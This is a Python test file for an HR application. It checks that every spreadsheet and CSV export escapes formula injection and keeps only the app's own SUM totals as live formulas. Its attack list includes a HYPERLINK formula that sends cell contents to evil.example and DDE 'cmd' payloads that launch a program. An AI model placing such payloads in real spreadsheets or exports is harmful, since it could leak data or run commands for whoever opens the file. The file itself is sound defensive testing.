"""Formula injection: text that a spreadsheet would run (=, +, -, @, tab, CR, LF first) is written as text by every
spreadsheet and CSV writer of the app; only the app's own formulas (the totals rows' =SUM) stay formulas."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

from openpyxl import Workbook, load_workbook
from sqlalchemy import text

from hrapp.io.cells import DANGEROUS_LEADS, Formula, csv_field, csv_writer, new_workbook, put_formula

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A2,"Xem")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "#N/A",
)
OWN_FORMULA = re.compile(r"^=SUM\(([A-Z]+\d+(:[A-Z]+\d+)?,?)+\)$")


# --- the helper ------------------------------------------------------------------------------------------------

def _reloaded(wb: Workbook):
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    return load_workbook(buf)


def test_formula_like_text_is_saved_as_text_with_the_quote_prefix_and_reads_back_unchanged():
    wb = new_workbook()
    ws = wb.active
    for r, attack in enumerate(ATTACKS, start=1):
        ws.cell(r, 1, attack)
    ws.cell(1, 2).value = "=1+1"  # however the cell is filled
    ws.append(["@x", -5, date(2024, 1, 2), "bình thường"])
    back = _reloaded(wb).active
    for r, attack in enumerate(ATTACKS, start=1):
        cell = back.cell(r, 1)
        assert cell.data_type == "s"
        assert cell.value == attack.replace("\r", "\n")  # XML keeps no bare CR; the text is otherwise as written
        assert cell.quotePrefix or attack == "#N/A"
    assert back.cell(1, 2).data_type == "s" and back.cell(1, 2).value == "=1+1"
    last = back.max_row
    assert back.cell(last, 1).value == "@x" and back.cell(last, 1).quotePrefix
    assert back.cell(last, 2).value == -5 and back.cell(last, 2).data_type == "n"
    assert back.cell(last, 3).is_date
    assert back.cell(last, 4).quotePrefix is False


def test_the_apps_own_formula_stays_a_formula_and_a_forged_one_in_its_place_does_not():
    wb = new_workbook()
    ws = wb.active
    ws.append([1])
    ws.append([2])
    put_formula(ws, 3, 1, Formula("=SUM(A1:A2)"))
    put_formula(ws, 4, 1, "=SUM(A1:A2)")
    ws.cell(4, 1, "=HYPERLINK(\"http://x\")")  # overwritten afterwards by data: no longer the app's formula
    back = _reloaded(wb).active
    assert back.cell(3, 1).data_type == "f" and back.cell(3, 1).value == "=SUM(A1:A2)"
    assert back.cell(4, 1).data_type == "s"


def test_write_only_sheets_neutralise_each_appended_row():
    from openpyxl.cell import WriteOnlyCell

    wb = new_workbook(write_only=True)
    ws = wb.create_sheet("a")
    ws.append(["=1+1", WriteOnlyCell(ws, "+2"), -3, "#DIV/0!", "ok"])
    back = _reloaded(wb)["a"]
    assert [c.data_type for c in back[1]] == ["s", "s", "n", "s", "s"]
    assert back["A1"].value == "=1+1" and back["A1"].quotePrefix and back["B1"].quotePrefix


def test_csv_text_gets_an_apostrophe_and_numbers_stay_numbers():
    out = io.StringIO()
    w = csv_writer(out, lineterminator="\n")
    w.writerow(["=1+1", "-x", -5, None, "a"], shown=[None, None, "-5", None, None])
    w.writerow(["@A", "+1", 2.5, date(2024, 1, 1), "\t=1"])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["'=1+1", "'-x", "-5", "", "a"]
    assert rows[1] == ["'@A", "'+1", "2.5", "2024-01-01", "'\t=1"]
    assert csv_field(-1) == -1 and csv_field("-1") == "'-1"


# --- every writer ------------------------------------------------------------------------------------------------

def _poison(ctx) -> None:
    """Put attack strings in front of the names and free text the documents show."""
    columns = {
        "persons": ("full_name", "birth_place", "home_town", "other_names", "permanent_address", "current_address",
                    "occupation_at_recruitment", "cur_post", "staff_code"),
        "org_units": ("name", "short_name"),
        "job_positions": ("name",),
        "recruitment_candidates": ("full_name",),
        "courses": ("name",),
        "training_plans": ("name",),
    }
    with ctx.unit_of_work() as s:
        for table, cols in columns.items():
            ids = [r[0] for r in s.execute(text(f"SELECT id FROM {table} ORDER BY id"))]
            for n, row_id in enumerate(ids):
                attack = ATTACKS[n % len(ATTACKS)]
                for col in cols:
                    s.execute(text(f"UPDATE {table} SET {col} = :a || coalesce({col}, '') WHERE id = :i"),
                              {"a": attack, "i": row_id})


def _formula_cells(path: Path) -> list[str]:
    wb = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}: {c.value!r}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f" and not OWN_FORMULA.match(str(c.value))]


def _unescaped_csv_fields(path: Path, delimiter: str = ",") -> list[str]:
    data = path.read_text(encoding="utf-8-sig")
    bad = []
    for row in csv.reader(io.StringIO(data, newline=""), delimiter=delimiter):
        for field in row:
            if field[:1] in DANGEROUS_LEADS and field[:1] != "-" or field[:1] == "-" and not _number(field):
                bad.append(field)
    return bad


def _number(field: str) -> bool:
    return re.fullmatch(r"-\d+([.,]\d+)*", field) is not None


def _quoted_attacks(path: Path) -> int:
    wb = load_workbook(path)
    return sum(1 for ws in wb.worksheets for row in ws.iter_rows() for c in row
               if isinstance(c.value, str) and c.value[:1] in DANGEROUS_LEADS and c.quotePrefix)


def test_every_spreadsheet_and_csv_writer_writes_injected_text_as_text(demo_ctx, tmp_path):
    from hrapp.io import candidate_import, excel_export, excel_import, excel_template
    from hrapp.reports.audit_export import export_audit
    from hrapp.reports.staff_list import export_staff_list
    from hrapp.reports.staffing_table import export_staffing
    from ui.pages.reports_page import REPORTS, Params

    _poison(demo_ctx)
    written: list[Path] = []

    employees = tmp_path / "employees.xlsx"
    excel_export.export_employees(demo_ctx, employees)
    written.append(employees)
    assert _quoted_attacks(employees) > 50  # the attacks did reach the file, as text

    params = Params(as_of=date(2025, 12, 31), year=2022, start=date(2026, 10, 1), end=date(2027, 3, 31),
                    overdue=True, layout="full", unit_code=None, category=None, position_id=1, person_id=None,
                    period_id=1, round_id=1, plan_year=2022, by_position=True, rank_code="01.002")
    for report in REPORTS:
        if report.excel:
            target = tmp_path / f"{report.key}.xlsx"
            report.run(demo_ctx, str(target), params, lambda done, total: None, lambda: False)
            written.append(target)

    staff_csv = tmp_path / "staff.csv"
    export_staff_list(demo_ctx, staff_csv)
    staffing_csv = tmp_path / "staffing.csv"
    export_staffing(demo_ctx, staffing_csv, 2022)

    audit = tmp_path / "audit.xlsx"
    with demo_ctx.unit_of_work() as s:
        from hrapp.db.audit import record

        for attack in ATTACKS:
            record(s, "update", "persons", "1", summary=attack)
    export_audit(demo_ctx, audit)
    written.append(audit)

    template = tmp_path / "template.xlsx"
    excel_template.write_template(demo_ctx, template)
    written.append(template)
    issues = tmp_path / "issues.xlsx"
    excel_import.write_issues([excel_import.ImportIssue(a, 2, a, a, a) for a in ATTACKS], issues)
    written.append(issues)
    assert _quoted_attacks(issues) >= 4 * (len(ATTACKS) - 1)
    candidates = tmp_path / "candidates.xlsx"
    candidate_import.write_template(demo_ctx, 1, candidates)
    written.append(candidates)

    assert {p.name: _formula_cells(p) for p in written} == {p.name: [] for p in written}
    assert _unescaped_csv_fields(staff_csv) == []
    assert _unescaped_csv_fields(staffing_csv) == []
    assert "'=HYPERLINK" in staff_csv.read_text(encoding="utf-8-sig")


def test_the_totals_rows_keep_their_sums(demo_ctx, tmp_path):
    from hrapp.reports.staffing_table import export_staffing

    target = tmp_path / "staffing.xlsx"
    export_staffing(demo_ctx, target, 2022)
    wb = load_workbook(target)
    sums = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert sums and all(OWN_FORMULA.match(v) for v in sums)


def test_an_exported_attack_imports_back_as_the_same_text(demo_ctx, tmp_path):
    from sqlalchemy import select

    from hrapp.db.models import Person
    from hrapp.io.excel_export import export_employees
    from hrapp.io.excel_import import import_employees

    _poison(demo_ctx)
    with demo_ctx.read() as s:
        before = dict(s.execute(select(Person.id_number, Person.birth_place)).all())
    target = tmp_path / "roundtrip.xlsx"
    export_employees(demo_ctx, target)
    import_employees(demo_ctx, target)
    with demo_ctx.read() as s:
        after = dict(s.execute(select(Person.id_number, Person.birth_place)).all())
    assert after == before
    assert any(v and v.startswith("=HYPERLINK") for v in after.values())


# --- no writer around the helper -----------------------------------------------------------------------------------

BYPASSES = (
    (re.compile(r"\bWorkbook\("), "an openpyxl Workbook made directly (use hrapp.io.cells.new_workbook)"),
    (re.compile(r"from openpyxl import [^\n]*\bWorkbook\b"), "openpyxl's Workbook imported"),
    (re.compile(r"\bcsv\.(writer|DictWriter)\b"), "a csv writer made directly (use hrapp.io.cells.csv_writer)"),
    (re.compile(r"\bxlsxwriter\b"), "xlsxwriter (its cells do not pass the helper)"),
    (re.compile(r"load_workbook\([^)]*\)[^\n]*\n(?:[^\n]*\n){0,40}?[^\n]*\.save\("),
     "a loaded workbook saved again"),
)


def test_no_module_writes_spreadsheet_or_csv_cells_around_the_helper():
    found = []
    for folder in ("hrapp", "ui"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path == ROOT / "hrapp" / "io" / "cells.py":
                continue
            source = path.read_text(encoding="utf-8")
            for pattern, why in BYPASSES:
                for m in pattern.finditer(source):
                    if "CalamineWorkbook" in source[max(0, m.start() - 8):m.end()]:
                        continue
                    line = source.count("\n", 0, m.start()) + 1
                    found.append(f"{path.relative_to(ROOT)}:{line}: {why}")
    assert found == []


def test_the_bypass_check_would_see_a_new_writer():
    source = "from openpyxl import Workbook\nwb = Workbook()\nw = csv.writer(f)\n"
    assert all(p.search(source) for p, _ in BYPASSES[:3])
